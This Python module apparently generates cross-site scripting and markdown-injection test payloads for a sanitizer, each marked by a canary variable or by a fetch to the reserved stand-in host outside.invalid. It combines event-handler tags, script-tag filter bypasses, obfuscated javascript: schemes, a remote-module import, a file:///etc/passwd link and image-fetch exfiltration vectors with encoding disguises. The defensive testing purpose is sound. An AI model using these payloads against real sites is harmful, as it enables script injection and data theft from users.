"""Text that tries to run a script or to fetch something, made by combining what browsers and markdown fall for.

Every payload sets `window.canary` if it runs, or asks a host that must never be asked.
"""

import html
from collections.abc import Callable, Iterator
from itertools import islice, product
from urllib.parse import quote

OUTSIDE = "http://outside.invalid"
RUN = ("window.canary=1", "canary=1", "alert(1)", "top['canary']=1", "import('" + OUTSIDE + "/m.js')")
HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
ELEMENTS = (
    "<img src=x {on}>",
    "<svg {on}>",
    "<svg><image href={out}/a.svg {on} /></svg>",
    "<body {on}>",
    "<input autofocus {on}>",
    "<details open {on}>",
    "<video src={out}/v.mp4 autoplay {on}></video>",
    "<audio src={out}/a.mp3 {on}>",
    "<marquee {on}>",
    "<a href=x {on} id=x tabindex=1 autofocus>x</a>",
    "<math><mtext><table><mglyph><style><img src=x {on}></style></mglyph></table></mtext></math>",
    "<iframe src={out}/f {on}></iframe>",
    "<object data={out}/o {on}></object>",
    "<select autofocus {on}>",
)
SCRIPTS = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src={out}/s.js></script>",
    "<svg><script>{js}</script></svg>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "--><script>{js}</script><!--",
    "<scr<script>ipt>{js}</script>",
    "<template><script>{js}</script></template>",
    "<base href={out}/>",
    "<link rel=stylesheet href={out}/s.css>",
    "<link rel=prefetch href={out}/p>",
    "<meta http-equiv=refresh content='0;url={out}/r'>",
    "<style>@import '{out}/i.css';</style>",
    "<form action={out}/form><button autofocus>go</button></form>",
    "<embed src={out}/e>",
    "<img srcset='{out}/1x.png 1x'>",
    "<div style='background:url({out}/b.png)'>x</div>",
)
SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "\x01javascript:{js}",
    " javascript:{js}",
    "&#106;avascript:{js}",
    "javascript&colon;{js}",
    "javascript&#x3a;{js}",
    "%6aavascript:{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:image/svg+xml,<svg onload='{js}'/>",
    "blob:{out}/x",
    "//outside.invalid/x",
    "file:///etc/passwd",
)
MARKDOWN = (
    "[click]({url})",
    "![picture]({url})",
    "![a][r]\n\n[r]: {url}",
    "[a][r]\n\n[r]: {url} 'title\" onload=\"{js}'",
    "<{url}>",
    "[x](<{url}>)",
    "[![a]({url})]({url})",
    "| a |\n|---|\n| ![x]({url}) |",
    "- [ ] ![x]({url})",
    "[^1]\n\n[^1]: ![x]({url})",
)
IMAGES = (
    "![x]({out}/1.png)",
    "![x][o]\n\n[o]: {out}/2.png",
    "![{out}/3.png]\n\n[{out}/3.png]: {out}/3.png",
    "![x](//outside.invalid/4.png)",
    "{out}/5.png",
    "www.outside.invalid/6.png",
    "<{out}/7.png>",
    "![x](http:outside.invalid/8.png)",
    "![x](\\\\outside.invalid\\9.png)",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImNhbmFyeT0xIi8+",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    html.escape,
    lambda text: html.unescape(text.replace("<", "&lt;")),
    quote,
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: f"```html\n{text}\n```",
    lambda text: f"`{text}`",
    lambda text: f'"{text}',
    lambda text: f"'>\"{text}",
    lambda text: text.replace(" ", "/"),
    lambda text: "\u202e" + text + "\u200b",
    lambda text: f"$${text}$$",
    lambda text: f'```mermaid\ngraph TD; a["{text}"]\n```',
)


def payloads(count: int) -> list[str]:
    """The first `count`, the same each time; taken in steps so that even few are of every kind."""
    every = list(dict.fromkeys(_all()))
    step = max(1, len(every) // count)
    return list(islice(every[::step], count))


def _all() -> Iterator[str]:
    for disguise, form in product(DISGUISES, _plain()):
        yield disguise(form)


def _plain() -> Iterator[str]:
    for element, handler in product(ELEMENTS, HANDLERS):
        yield element.format(on=f'{handler}="{RUN[0]}"', out=OUTSIDE)
    for script, js in product(SCRIPTS, RUN):
        yield script.format(js=js, out=OUTSIDE)
    for form, scheme in product(MARKDOWN, SCHEMES):
        yield form.format(url=scheme.format(js=RUN[1], out=OUTSIDE), js=RUN[1])
    for image in IMAGES:
        yield image.format(out=OUTSIDE)
